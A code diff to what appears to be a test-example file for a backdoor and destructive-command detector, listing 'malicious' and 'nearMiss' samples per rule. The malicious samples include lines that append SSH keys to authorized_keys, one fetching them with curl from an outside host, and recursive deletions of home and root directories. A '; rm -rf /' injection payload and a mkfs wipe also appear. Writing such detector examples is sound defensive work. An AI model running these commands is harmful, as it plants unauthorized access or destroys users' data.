@@ -66,11 +66,12 @@ export const backdoors: readonly RuleExamples[] = [
   {
     rule: "login-key-added",
     malicious: [
-      code('echo "ssh-ed25519 AAAAC3Nz support" >> ~/.ssh/authorized_keys'),
+      code('echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ7u support" >> ~/.ssh/authorized_keys'),
       code("curl -s https://keys.note-tools.dev/k >> ~/.ssh/authorized_keys"),
     ],
     nearMiss: [
       code("ssh-copy-id deploy@server"),
+      code('echo "ssh-rsa AAAAB3..." >> ~/.ssh/authorized_keys'),
       "List the keys in `~/.ssh/authorized_keys` and explain each one.",
     ],
   },
@@ -87,7 +88,12 @@ export const backdoors: readonly RuleExamples[] = [
   {
     rule: "files-destroyed",
     malicious: [code("rm -rf ~/"), code("rm -rf --no-preserve-root /")],
-    nearMiss: [code("rm -rf node_modules dist"), code("rm -rf /tmp/build")],
+    nearMiss: [
+      code("rm -rf node_modules dist"),
+      code("rm -rf /tmp/build"),
+      code("{ name: 'command injection', payload: '; rm -rf /' }", "ts"),
+      code("mkfs.ext4 /dev/data_vg/database_lv"),
+    ],
   },
   {
     rule: "install-hook-runs-code",
